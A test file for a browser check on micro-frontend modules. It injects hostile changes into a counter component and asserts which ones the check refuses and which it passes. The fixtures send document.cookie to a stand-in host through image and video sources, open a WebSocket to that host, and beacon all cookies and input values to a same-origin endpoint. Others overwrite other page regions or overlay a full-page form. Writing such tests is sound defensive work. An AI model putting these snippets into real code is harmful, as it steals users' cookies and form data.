import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { copyModule } from '../../../composition/testing/test-modules.ts';
import { type CheckBench, openCheckBench } from '../../../testing/check-bench.ts';

/** Versions that mean harm or are badly broken, and that no other test of the browser check has (tools/proofs/hostile-modules.json). */
let bench: CheckBench;
beforeAll(async () => {
  bench = await openCheckBench();
});
afterAll(() => bench.close());

const press = 'onClick={() => setCount(count + 1)}';
const drawn = '  if (isBrowser) markReact();\n';

/** Looks at a version whose counter was changed at one place. */
async function look(from: string, to: string) {
  const release = await bench.build(await copyModule(bench.site, 'mfe-alpha', [{ file: 'src/counter.tsx', from, to }]));
  return bench.look(release);
}

describe('the browser check refuses a version that', () => {
  test.each([
    [
      'throws on every click',
      press,
      "onClick={() => { throw new Error('Not today.'); }}",
      /failed when it was pressed: Error: Not today \(.+\.js:\d+:\d+\)\.$/m,
    ],
    [
      'crashes on every click',
      press,
      "onClick={() => setCount(() => { throw new Error('Not today.'); })}",
      /failed when it was pressed: Error: Not today \(.+\.js:\d+:\d+\)\.$/m,
    ],
    [
      'sends what it reads to another site by a picture',
      drawn,
      `${drawn}  if (isBrowser) new Image().src = 'https://elsewhere.example/?' + document.cookie;\n`,
      /elsewhere\.example/,
    ],
    [
      'sends what it reads to another site by a film',
      drawn,
      `${drawn}  if (isBrowser) document.createElement('video').src = 'https://elsewhere.example/?' + document.cookie;\n`,
      /elsewhere\.example/,
    ],
    [
      'opens a socket to another site',
      drawn,
      `${drawn}  if (isBrowser) new WebSocket('wss://elsewhere.example/');\n`,
      /elsewhere\.example/,
    ],
    [
      'makes a script from text',
      drawn,
      `${drawn}  if (isBrowser) new Function('return ' + id.length)();\n`,
      /crashed: EvalError: /,
    ],
    [
      'hides the header',
      drawn,
      `${drawn}  if (isBrowser) document.querySelector('header')?.remove();\n`,
      /changes the page outside its slot/,
    ],
    [
      'writes into the header',
      drawn,
      `${drawn}  if (isBrowser) document.querySelector('header')?.replaceChildren('Closed.');\n`,
      /changes the page outside its slot/,
    ],
  ])('%s', async (_fault, from, to, finding) => {
    const { outcome, findings } = await look(from, to);
    expect(outcome).toBe('failed');
    expect(findings.join('\n')).toMatch(finding);
  });
});

describe('the browser check passes a version that', () => {
  test.each([
    [
      'throws after 20 seconds',
      drawn,
      `${drawn}  if (isBrowser) setTimeout(() => { throw new Error('Late.'); }, 20_000);\n`,
    ],
    [
      'reads every field and cookie and sends them to its own website',
      drawn,
      `${drawn}  if (isBrowser) navigator.sendBeacon('/api/census/x', document.cookie + [...document.querySelectorAll('input')].map(({ value }) => value));\n`,
    ],
    [
      'writes into the slot of another module',
      drawn,
      `${drawn}  if (isBrowser) for (const other of document.querySelectorAll('[data-mount]:not([data-mount="cart/page"])')) other.replaceChildren('Closed.');\n`,
    ],
    [
      'covers the page once it is pressed, as a dialog does',
      press,
      "onClick={() => { const all = document.createElement('form'); all.style.cssText = 'position:fixed;inset:0;z-index:9'; document.body.append(all); }}",
    ],
  ])('%s', async (_fault, from, to) => {
    expect(await look(from, to)).toEqual({ outcome: 'passed', findings: [] });
  });
});
